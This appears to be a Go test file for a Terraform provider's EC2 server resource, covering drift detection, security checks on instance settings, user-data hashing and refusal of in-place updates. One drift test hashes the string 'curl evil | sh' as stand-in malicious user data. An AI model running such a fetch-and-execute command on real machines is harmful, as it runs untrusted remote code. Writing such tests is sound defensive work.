package provider

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/hashicorp/terraform-plugin-framework/attr"
	"github.com/hashicorp/terraform-plugin-framework/path"
	"github.com/hashicorp/terraform-plugin-framework/resource"
	"github.com/hashicorp/terraform-plugin-framework/tfsdk"
	"github.com/hashicorp/terraform-plugin-framework/types"
	"github.com/hashicorp/terraform-plugin-go/tftypes"

	"github.com/gdpr-immutable/terraform-provider-gdpr/internal/awsapi"
	"github.com/gdpr-immutable/terraform-provider-gdpr/internal/jurisdiction"
)

const testKeyARN = "arn:aws:kms:eu-central-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"

func apiServer() *awsapi.Server {
	return &awsapi.Server{
		ID:                   "i-0123456789abcdef0",
		ARN:                  "arn:aws:ec2:eu-central-1:123456789012:instance/i-0123456789abcdef0",
		State:                "running",
		ImageID:              "ami-760aaa0f",
		InstanceType:         "t3.micro",
		AvailabilityZone:     "eu-central-1a",
		PrivateIP:            "172.31.0.4",
		SubnetID:             "subnet-0a",
		SecurityGroupIDs:     []string{"sg-0a"},
		Tags:                 map[string]string{},
		MetadataHTTPTokens:   "required",
		MetadataHopLimit:     1,
		MetadataHTTPEndpoint: "enabled",
		ShutdownBehavior:     "stop",
		UserDataSHA256:       awsapi.SHA256Hex("echo hello"),
		RootDeviceName:       "/dev/xvda",
		Root: &awsapi.Volume{ID: "vol-0a", SizeGB: 8, Type: "gp3", Encrypted: true, KMSKeyID: testKeyARN,
			DeleteOnTermination: true},
	}
}

func serverTestModel() serverModel {
	return serverModel{
		ID:               types.StringValue("i-0123456789abcdef0"),
		ARN:              types.StringValue("arn:aws:ec2:eu-central-1:123456789012:instance/i-0123456789abcdef0"),
		ImageID:          types.StringValue("ami-760aaa0f"),
		InstanceType:     types.StringValue("t3.micro"),
		KMSKeyARN:        types.StringValue(testKeyARN),
		SubnetID:         types.StringValue("subnet-0a"),
		SecurityGroupIDs: types.SetValueMust(types.StringType, []attr.Value{types.StringValue("sg-0a")}),
		RootVolumeSizeGB: types.Int64Value(8),
		RootVolumeType:   types.StringValue("gp3"),
		UserData:         types.StringNull(),
		UserDataSHA256:   types.StringValue(awsapi.SHA256Hex("echo hello")),
		Tags:             types.MapNull(types.StringType),
		AvailabilityZone: types.StringValue("eu-central-1a"),
		PrivateIP:        types.StringValue("172.31.0.4"),
		Region:           types.StringValue("eu-central-1"),
		Jurisdiction:     types.StringValue("EU"),
	}
}

func TestServerModel_fromAPI(t *testing.T) {
	ctx := context.Background()
	tests := map[string]struct {
		api         func(*awsapi.Server)
		model       func(*serverModel)
		wantChanged []string
		check       func(*testing.T, serverModel)
	}{
		"unchanged": {},
		"resized": {
			api:         func(s *awsapi.Server) { s.InstanceType = "t3.large" },
			wantChanged: []string{"instance_type"},
			check: func(t *testing.T, m serverModel) {
				if m.InstanceType.ValueString() != "t3.large" {
					t.Errorf("instance_type = %s, want what EC2 reports", m.InstanceType)
				}
			},
		},
		"another image": {
			api:         func(s *awsapi.Server) { s.ImageID = "ami-03cf127a" },
			wantChanged: []string{"image_id"},
		},
		"root volume changed": {
			api: func(s *awsapi.Server) {
				s.Root.SizeGB, s.Root.Type = 20, "gp2"
				s.Root.KMSKeyID = "arn:aws:kms:eu-central-1:123456789012:key/other"
			},
			wantChanged: []string{"kms_key_arn", "root_volume_size_gb", "root_volume_type"},
		},
		"security group added": {
			api:         func(s *awsapi.Server) { s.SecurityGroupIDs = []string{"sg-0a", "sg-0b"} },
			wantChanged: []string{"security_group_ids"},
		},
		"moved to another subnet": {
			api:         func(s *awsapi.Server) { s.SubnetID = "subnet-0b" },
			wantChanged: []string{"subnet_id"},
		},
		"user data replaced": {
			api:         func(s *awsapi.Server) { s.UserDataSHA256 = awsapi.SHA256Hex("curl evil | sh") },
			wantChanged: []string{"user_data"},
		},
		"user data added to a server without": {
			model:       func(m *serverModel) { m.UserDataSHA256 = types.StringNull() },
			wantChanged: []string{"user_data"},
		},
		"user data removed": {
			api:         func(s *awsapi.Server) { s.UserDataSHA256 = "" },
			wantChanged: []string{"user_data"},
			check: func(t *testing.T, m serverModel) {
				if !m.UserDataSHA256.IsNull() {
					t.Errorf("user_data_sha256 = %s, want null", m.UserDataSHA256)
				}
			},
		},
		"tag added": {
			api:         func(s *awsapi.Server) { s.Tags = map[string]string{"owner": "mallory"} },
			wantChanged: []string{"tags"},
		},
		"empty tags stay as configured": {
			model: func(m *serverModel) { m.Tags = types.MapValueMust(types.StringType, nil) },
			check: func(t *testing.T, m serverModel) {
				if m.Tags.IsNull() || len(m.Tags.Elements()) != 0 {
					t.Errorf("tags = %s, want {}", m.Tags)
				}
			},
		},
		"values never read are not drift": {
			// A create that failed after launch leaves these unset in state; the next read fills them in.
			model: func(m *serverModel) {
				m.SubnetID, m.SecurityGroupIDs = types.StringNull(), types.SetNull(types.StringType)
			},
			check: func(t *testing.T, m serverModel) {
				if m.SubnetID.ValueString() != "subnet-0a" || len(m.SecurityGroupIDs.Elements()) != 1 {
					t.Errorf("subnet %s, groups %s: not filled in", m.SubnetID, m.SecurityGroupIDs)
				}
			},
		},
		"right after import nothing is compared": {
			model: func(m *serverModel) {
				*m = serverModel{ID: m.ID, Tags: types.MapNull(types.StringType), SecurityGroupIDs: types.SetNull(types.StringType)}
			},
			api: func(s *awsapi.Server) { s.Tags = map[string]string{"a": "b"} },
			check: func(t *testing.T, m serverModel) {
				if m.ImageID.ValueString() != "ami-760aaa0f" || m.KMSKeyARN.ValueString() != testKeyARN ||
					m.RootVolumeSizeGB.ValueInt64() != 8 || m.UserDataSHA256.ValueString() != awsapi.SHA256Hex("echo hello") ||
					len(m.Tags.Elements()) != 1 || m.SubnetID.ValueString() != "subnet-0a" {
					t.Errorf("imported model not filled in: %+v", m)
				}
			},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			m := serverTestModel()
			if tc.model != nil {
				tc.model(&m)
			}
			s := apiServer()
			if tc.api != nil {
				tc.api(s)
			}
			changed, err := m.fromAPI(ctx, s)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(changed, tc.wantChanged) {
				t.Errorf("changed = %v, want %v", changed, tc.wantChanged)
			}
			if m.ID.ValueString() != s.ID || m.ARN.ValueString() != s.ARN || !m.UserData.IsNull() {
				t.Errorf("id/arn/user_data = %s/%s/%s", m.ID, m.ARN, m.UserData)
			}
			if tc.check != nil {
				tc.check(t, m)
			}
		})
	}
}

func TestServerModel_toAPI(t *testing.T) {
	ctx := context.Background()
	m := serverTestModel()
	m.UserData = types.StringValue("echo hello")
	m.SecurityGroupIDs = types.SetValueMust(types.StringType, []attr.Value{types.StringValue("sg-0b"), types.StringValue("sg-0a")})
	m.Tags = types.MapValueMust(types.StringType, map[string]attr.Value{"team": types.StringValue("crm")})
	in, err := m.toAPI(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if in.ImageID != "ami-760aaa0f" || in.InstanceType != "t3.micro" || in.KMSKeyARN != testKeyARN ||
		in.SubnetID != "subnet-0a" || !slices.Equal(in.SecurityGroupIDs, []string{"sg-0a", "sg-0b"}) ||
		in.RootVolumeSizeGB != 8 || in.RootVolumeType != "gp3" || in.UserData != "echo hello" || in.Tags["team"] != "crm" {
		t.Errorf("toAPI = %+v", in)
	}

	// Unset subnet and groups are left to EC2's defaults.
	m.SubnetID, m.SecurityGroupIDs = types.StringUnknown(), types.SetUnknown(types.StringType)
	m.UserData = types.StringNull()
	in, err = m.toAPI(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if in.SubnetID != "" || in.SecurityGroupIDs != nil || in.UserData != "" {
		t.Errorf("unset arguments were sent: %+v", in)
	}
}

func TestServerProblems(t *testing.T) {
	if p := serverProblems(apiServer()); len(p) != 0 {
		t.Errorf("a good server has problems: %v", p)
	}
	tests := map[string]struct {
		change func(*awsapi.Server)
		want   []string
	}{
		"IMDSv1":                 {func(s *awsapi.Server) { s.MetadataHTTPTokens = "optional" }, []string{"metadata_options"}},
		"hop limit 2":            {func(s *awsapi.Server) { s.MetadataHopLimit = 2 }, []string{"metadata_options"}},
		"metadata endpoint off":  {func(s *awsapi.Server) { s.MetadataHTTPEndpoint = "disabled" }, []string{"metadata_options"}},
		"endpoint not reported":  {func(s *awsapi.Server) { s.MetadataHTTPEndpoint = "" }, nil},
		"public IP address":      {func(s *awsapi.Server) { s.PublicIP = "54.1.2.3" }, []string{"public_ip_address"}},
		"unencrypted root":       {func(s *awsapi.Server) { s.Root.Encrypted = false }, []string{"root_volume_encryption"}},
		"root outlives instance": {func(s *awsapi.Server) { s.Root.DeleteOnTermination = false }, []string{"root_volume_delete_on_termination"}},
		"no EBS root":            {func(s *awsapi.Server) { s.Root = nil }, []string{"root_volume"}},
		"terminates on shutdown": {func(s *awsapi.Server) { s.ShutdownBehavior = "terminate" }, []string{"shutdown_behavior"}},
		"shutdown not reported":  {func(s *awsapi.Server) { s.ShutdownBehavior = "" }, nil},
		"everything at EC2's defaults": {
			func(s *awsapi.Server) {
				s.MetadataHTTPTokens, s.PublicIP, s.Root.Encrypted, s.Root.DeleteOnTermination = "optional", "54.1.2.3", false, false
			},
			[]string{"metadata_options", "public_ip_address", "root_volume_encryption", "root_volume_delete_on_termination"},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			s := apiServer()
			tc.change(s)
			p := serverProblems(s)
			if got := problemNames(p); !slices.Equal(got, tc.want) && (len(got) != 0 || len(tc.want) != 0) {
				t.Errorf("problems = %v, want %v", got, tc.want)
			}
			for _, why := range problemReasons(p) {
				if why == "" || strings.HasSuffix(why, ".") {
					t.Errorf("reason %q is not a clause for a sentence", why)
				}
			}
		})
	}
}

func TestUserDataSHA256(t *testing.T) {
	tests := map[string]struct {
		in, want types.String
	}{
		"unset":    {types.StringNull(), types.StringNull()},
		"empty":    {types.StringValue(""), types.StringNull()},
		"unknown":  {types.StringUnknown(), types.StringUnknown()},
		"a script": {types.StringValue("abc"), types.StringValue("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")},
	}
	for name, tc := range tests {
		if got := userDataSHA256(tc.in); !got.Equal(tc.want) {
			t.Errorf("%s: userDataSHA256(%s) = %s, want %s", name, tc.in, got, tc.want)
		}
	}
}

// serverPlanRequest builds the request Terraform sends when planning the server from prior to planned with
// the given user data in the configuration. A null prior is a create.
func serverPlanRequest(t *testing.T, prior *serverModel, planned serverModel, userData types.String) (resource.ModifyPlanRequest, *resource.ModifyPlanResponse) {
	t.Helper()
	ctx := context.Background()
	var sr resource.SchemaResponse
	NewServerResource().Schema(ctx, resource.SchemaRequest{}, &sr)
	s := sr.Schema
	empty := tftypes.NewValue(s.Type().TerraformType(ctx), nil)
	state := tfsdk.State{Schema: s, Raw: empty}
	plan := tfsdk.Plan{Schema: s, Raw: empty}
	if prior != nil {
		if d := state.Set(ctx, *prior); d.HasError() {
			t.Fatal(d)
		}
	}
	// Write-only values are null in plan and state, and present only in the configuration.
	planned.UserData = types.StringNull()
	if d := plan.Set(ctx, planned); d.HasError() {
		t.Fatal(d)
	}
	cfg := tfsdk.Plan{Schema: s, Raw: plan.Raw}
	if d := cfg.SetAttribute(ctx, path.Root(attrUserData), userData); d.HasError() {
		t.Fatal(d)
	}
	req := resource.ModifyPlanRequest{State: state, Plan: plan, Config: tfsdk.Config{Schema: s, Raw: cfg.Raw}}
	return req, &resource.ModifyPlanResponse{Plan: plan}
}

func TestServerModifyPlan_userData(t *testing.T) {
	ctx := context.Background()
	region, err := jurisdiction.Lookup("aws", "eu-central-1")
	if err != nil {
		t.Fatal(err)
	}
	data := placedData([]string{"EEA"}, region.Name)
	sha := func(s string) types.String { return types.StringValue(awsapi.SHA256Hex(s)) }
	tests := map[string]struct {
		create      bool
		priorSHA    types.String
		userData    types.String
		wantSHA     types.String
		wantReplace bool
	}{
		"create with user data":      {create: true, userData: types.StringValue("echo hello"), wantSHA: sha("echo hello")},
		"create without user data":   {create: true, userData: types.StringNull(), wantSHA: types.StringNull()},
		"same script: nothing to do": {priorSHA: sha("echo hello"), userData: types.StringValue("echo hello"), wantSHA: sha("echo hello")},
		"changed script: replace":    {priorSHA: sha("echo hello"), userData: types.StringValue("echo bye"), wantSHA: sha("echo bye"), wantReplace: true},
		"script removed: replace":    {priorSHA: sha("echo hello"), userData: types.StringNull(), wantSHA: types.StringNull(), wantReplace: true},
		"script added: replace":      {priorSHA: types.StringNull(), userData: types.StringValue("echo hello"), wantSHA: sha("echo hello"), wantReplace: true},
		"script known at apply only": {priorSHA: sha("echo hello"), userData: types.StringUnknown(), wantSHA: types.StringUnknown(), wantReplace: true},
		"still none":                 {priorSHA: types.StringNull(), userData: types.StringNull(), wantSHA: types.StringNull()},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			prior := serverTestModel()
			prior.UserDataSHA256 = tc.priorSHA
			var priorPtr *serverModel
			if !tc.create {
				priorPtr = &prior
			}
			r := &serverResource{immutable{typeName: serverTypeName, data: data, planHook: planUserDataSHA256}}
			req, resp := serverPlanRequest(t, priorPtr, prior, tc.userData)
			r.ModifyPlan(ctx, req, resp)
			if resp.Diagnostics.HasError() {
				t.Fatalf("unexpected error: %v", resp.Diagnostics)
			}
			var got types.String
			resp.Plan.GetAttribute(ctx, path.Root(attrUserDataSHA256), &got)
			if !got.Equal(tc.wantSHA) {
				t.Errorf("planned user_data_sha256 = %s, want %s", got, tc.wantSHA)
			}
			replace := slices.ContainsFunc(resp.RequiresReplace, func(p path.Path) bool { return p.Equal(path.Root(attrUserDataSHA256)) })
			if replace != tc.wantReplace {
				t.Errorf("replacement required = %v, want %v", replace, tc.wantReplace)
			}
		})
	}

	// Without the hook a changed script reaches the guard as an in-place update of a computed attribute,
	// which it refuses: the hook is what turns it into a replacement.
	t.Run("the guard refuses what the hook does not explain", func(t *testing.T) {
		prior := serverTestModel()
		planned := prior
		planned.UserDataSHA256 = types.StringValue(awsapi.SHA256Hex("echo bye"))
		r := &serverResource{immutable{typeName: serverTypeName, data: data}}
		req, resp := serverPlanRequest(t, &prior, planned, types.StringValue("echo bye"))
		r.ModifyPlan(ctx, req, resp)
		if !resp.Diagnostics.HasError() || !strings.Contains(resp.Diagnostics.Errors()[0].Detail(), "(changed: user_data_sha256)") {
			t.Fatalf("the guard did not refuse: %v", resp.Diagnostics)
		}
	})

	t.Run("the guard still refuses other in-place updates", func(t *testing.T) {
		prior := serverTestModel()
		planned := prior
		planned.PrivateIP = types.StringValue("10.0.0.9")
		r, ok := NewServerResource().(*serverResource)
		if !ok {
			t.Fatal("NewServerResource does not return a *serverResource")
		}
		r.data = data
		req, resp := serverPlanRequest(t, &prior, planned, types.StringValue("echo hello"))
		r.ModifyPlan(ctx, req, resp)
		if !resp.Diagnostics.HasError() || !strings.Contains(resp.Diagnostics.Errors()[0].Detail(), `gdpr_server "i-0123456789abcdef0" would be updated in place (changed: private_ip)`) {
			t.Fatalf("the guard did not refuse: %v", resp.Diagnostics)
		}
	})
}

func TestServerUpdateRefuses(t *testing.T) {
	var resp resource.UpdateResponse
	NewServerResource().Update(context.Background(), resource.UpdateRequest{}, &resp)
	if !resp.Diagnostics.HasError() || resp.Diagnostics.Errors()[0].Summary() != "In-place update refused" {
		t.Fatalf("Update did not refuse: %v", resp.Diagnostics)
	}
}
